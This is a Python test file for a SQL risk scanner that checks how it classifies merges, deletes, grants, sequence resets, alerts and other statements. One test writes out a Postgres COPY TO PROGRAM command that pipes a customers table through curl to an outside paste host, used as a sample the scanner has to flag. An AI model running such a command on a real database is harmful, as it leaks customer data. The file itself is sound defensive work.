"""A dangerous statement and the harmless one that looks like it."""

from __future__ import annotations

import pytest

from riskscan.model.artifact import Language
from riskscan.model.effect import Effect, Operation
from tests.support import findings, short

_ON = "MERGE INTO t USING s ON {} {}"
_ADDS = "WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id)"
_UPDATES = "WHEN MATCHED THEN UPDATE SET a = s.a"
_CLEARS = "WHEN NOT MATCHED BY SOURCE THEN DELETE"


def of(sql: str, dialect: str = "") -> list[Effect]:
    return [e for e in findings(sql, Language.SQL, dialect=dialect).effects if e.operation is not Operation.READ]


@pytest.mark.parametrize(
    ("on", "branches", "expected"),
    [
        ("t.id = s.id", _ADDS, {"write table:t some insert"}),
        ("t.id = s.id", f"{_UPDATES} {_ADDS}", {"write table:t some merge"}),
        ("t.id = s.id", _CLEARS, {"delete table:t unknown delete"}),
        ("t.id = s.id", "WHEN MATCHED THEN DELETE", {"delete table:t some delete"}),
        ("1 = 1", _UPDATES, {"write table:t all merge"}),
        ("1 = 1", "WHEN MATCHED THEN DELETE", {"delete table:t all delete"}),
        ("1 = 1", "WHEN MATCHED AND t.a = 3 THEN DELETE", {"delete table:t some delete"}),
        ("FALSE", f"{_ADDS} {_CLEARS}", {"write table:t some insert", "delete table:t all delete"}),
        (
            "FALSE",
            f"{_ADDS} WHEN NOT MATCHED BY SOURCE AND t.day = '2020-01-01' THEN DELETE",
            {"write table:t some insert", "delete table:t some delete"},
        ),
    ],
)
def test_the_branches_of_a_merge(on: str, branches: str, expected: set[str]) -> None:
    assert {f"{short(e)} {e.verb}" for e in of(_ON.format(on, branches))} == expected


def test_a_merge_that_only_adds_may_run_twice() -> None:
    merge, insert = of(_ON.format("t.id = s.id", _ADDS)), of("INSERT INTO t SELECT * FROM s")
    assert not [n for e in merge for n in e.also if "twice" in n.text]
    assert [n for e in insert for n in e.also if "twice" in n.text]


@pytest.mark.parametrize(
    ("dialect", "change", "widens"),
    [
        ("postgres", "ALTER COLUMN note TYPE text", True),
        ("postgres", "ALTER COLUMN note SET DATA TYPE varchar", True),
        ("postgres", "ALTER COLUMN note TYPE varchar(20)", False),
        ("postgres", "ALTER COLUMN note TYPE text USING left(note, 20)", False),
        ("postgres", "ALTER COLUMN total TYPE integer", False),
        ("mysql", "MODIFY COLUMN note LONGTEXT", True),
        ("mysql", "MODIFY COLUMN note VARCHAR(50)", False),
        ("tsql", "ALTER COLUMN note NVARCHAR(MAX)", True),
        ("tsql", "ALTER COLUMN note NVARCHAR(50)", False),
    ],
)
def test_a_column_that_holds_more_loses_nothing(dialect: str, change: str, widens: bool) -> None:
    (effect,) = of(f"ALTER TABLE orders {change}", dialect)
    assert effect.rule.endswith("widen-column") is widens


@pytest.mark.parametrize(
    ("where", "scope"),
    [
        ("id BETWEEN 101 AND 105", "one"),
        ("id BETWEEN 1 AND 999999", "some"),
        ("id NOT BETWEEN 101 AND 105", "some"),
        ("id BETWEEN 105 AND 101", "some"),
        ("amount BETWEEN 101 AND 105", "some"),
        ("id BETWEEN 101 AND 105 OR amount > 3", "some"),
    ],
)
def test_a_short_range_of_keys_names_its_rows(where: str, scope: str) -> None:
    assert of(f"UPDATE orders SET a = 1 WHERE {where}")[0].scope == scope


def test_flashback_of_a_dropped_table_and_of_its_rows() -> None:
    assert of("FLASHBACK TABLE hr.jobs TO BEFORE DROP", "oracle")[0].verb == "undrop"
    assert of("FLASHBACK TABLE hr.jobs TO TIMESTAMP (SYSTIMESTAMP - INTERVAL '1' DAY)", "oracle")[0].verb == "restore"


def test_rows_that_expire_and_rows_that_no_longer_do() -> None:
    assert of("ALTER TABLE a.b SET OPTIONS (partition_expiration_days = 7)", "bigquery")[0].verb == "expire"
    assert of("ALTER TABLE a.b SET OPTIONS (partition_expiration_days = NULL)", "bigquery")[0].verb == "describe"


def test_rights_that_may_be_passed_on() -> None:
    assert any("pass them on" in n.text for n in of("GRANT SELECT ON a TO b WITH GRANT OPTION")[0].also)
    assert not of("GRANT SELECT ON a TO b")[0].also


@pytest.mark.parametrize(
    ("dialect", "sql", "again"),
    [
        ("postgres", "SELECT setval('orders_id_seq', 1, false)", True),
        ("postgres", "SELECT setval('orders_id_seq', (SELECT max(id) FROM orders))", False),
        ("postgres", "SELECT setval('orders_id_seq', 5000)", False),
        ("postgres", "ALTER SEQUENCE orders_id_seq RESTART", True),
        ("postgres", "ALTER SEQUENCE orders_id_seq RESTART WITH 9000", False),
        ("postgres", "ALTER TABLE orders ALTER COLUMN id RESTART WITH 1", True),
        ("postgres", "ALTER SEQUENCE orders_id_seq CACHE 50", False),
        ("tsql", "DBCC CHECKIDENT ('dbo.orders', RESEED, 0)", True),
        ("tsql", "DBCC CHECKIDENT ('dbo.orders', RESEED, 8000)", False),
    ],
)
def test_a_counter_that_starts_again(dialect: str, sql: str, again: bool) -> None:
    assert any("again at the first number" in e.text for e in of(sql, dialect)) is again


@pytest.mark.parametrize(
    ("where", "scope"),
    [
        ("EXISTS (SELECT 1 FROM cancelled)", "all"),
        ("NOT EXISTS (SELECT 1 FROM cancelled c WHERE c.day = '2020-01-01')", "all"),
        ("EXISTS (SELECT 1 FROM cancelled c WHERE c.order_id = o.id)", "some"),
        ("EXISTS (SELECT 1 FROM cancelled WHERE order_id = id)", "some"),
        ("EXISTS (SELECT 1 FROM cancelled) AND o.id = 3", "one"),
        ("EXISTS (SELECT 1 FROM cancelled) OR o.a = 3", "some"),
    ],
)
def test_a_filter_that_asks_about_another_table_only(where: str, scope: str) -> None:
    (effect,) = of(f"DELETE FROM orders o WHERE {where}")
    assert effect.scope == scope


@pytest.mark.parametrize(("pause", "held"), [("WAITFOR DELAY '00:10:00';", True), ("SELECT SLEEP(600);", True), ("SELECT 1;", False)])
def test_a_pause_before_the_change_is_saved(pause: str, held: bool) -> None:
    begin = "BEGIN TRANSACTION;\nUPDATE stock SET a = 1 WHERE id = 3;\n"
    inside, after = of(f"{begin}{pause}\nCOMMIT;", "tsql"), of(f"{begin}COMMIT;\n{pause}", "tsql")
    assert any("waits before" in n.text for n in inside[0].also) is held
    assert not any("waits before" in n.text for n in after[0].also)


def test_data_that_a_program_of_the_server_sends_out() -> None:
    out = "COPY customers TO PROGRAM 'curl -T - {}'"
    assert [e.asset.name for e in of(out.format("https://paste.example.net/x"), "postgres") if e.operation == "send"] == [
        "https://paste.example.net/x"
    ]
    assert not [e for e in of(out.format("http://localhost:8080/x"), "postgres") if e.operation == "send"]


def test_a_warehouse_that_costs_more_and_a_table_that_is_not_logged() -> None:
    costs = of("ALTER WAREHOUSE w SET WAREHOUSE_SIZE = '4X-LARGE' AUTO_SUSPEND = 0", "snowflake")[0]
    assert costs.rule.endswith("alter-capacity")
    assert of("ALTER TABLE a SET UNLOGGED", "postgres")[0].rule.endswith("not-logged")
    assert not of("ALTER TABLE a SET LOGGED", "postgres")[0].rule.endswith("not-logged")


@pytest.mark.parametrize(
    ("dialect", "sql", "expected"),
    [
        ("mysql", "LOAD DATA INFILE '/x.csv' REPLACE INTO TABLE t", "write table:t some upsert"),
        ("mysql", "LOAD DATA INFILE '/x.csv' INTO TABLE t", "write table:t some insert"),
        ("mysql", "ALTER INSTANCE ROTATE INNODB MASTER KEY", "alter server:the database server all alter"),
        ("mysql", "ALTER TABLE t ALTER INDEX i INVISIBLE", "alter table:t all describe"),
        ("snowflake", "ALTER TABLE t ADD SEARCH OPTIMIZATION", "alter table:t all describe"),
        ("snowflake", "ALTER PIPE p SET PIPE_EXECUTION_PAUSED = TRUE", "alter pipeline:p all stop"),
        ("snowflake", "ALTER PIPE p SET PIPE_EXECUTION_PAUSED = FALSE", "alter pipeline:p all alter"),
        ("snowflake", "ALTER REPLICATION GROUP g SUSPEND", "alter other:g all stop"),
    ],
)
def test_what_each_server_calls_it(dialect: str, sql: str, expected: str) -> None:
    assert [f"{short(e)} {e.verb}" for e in of(sql, dialect)] == [expected]


def test_an_alert_does_what_stands_after_then() -> None:
    alert = "CREATE ALERT a WAREHOUSE = w SCHEDULE = '1 MINUTE' IF (EXISTS (SELECT 1 AS b FROM t)) THEN DELETE FROM log;"
    (made, alone) = of(alert, "snowflake")
    assert (short(made), short(alone)) == ("create job:a all", "delete table:log all")
    assert any(s.kind == "not_called" for s in alone.safe_evidence)
    running = of(alert + "ALTER ALERT a RESUME;", "snowflake")
    assert not any(s.kind == "not_called" for e in running for s in e.safe_evidence)
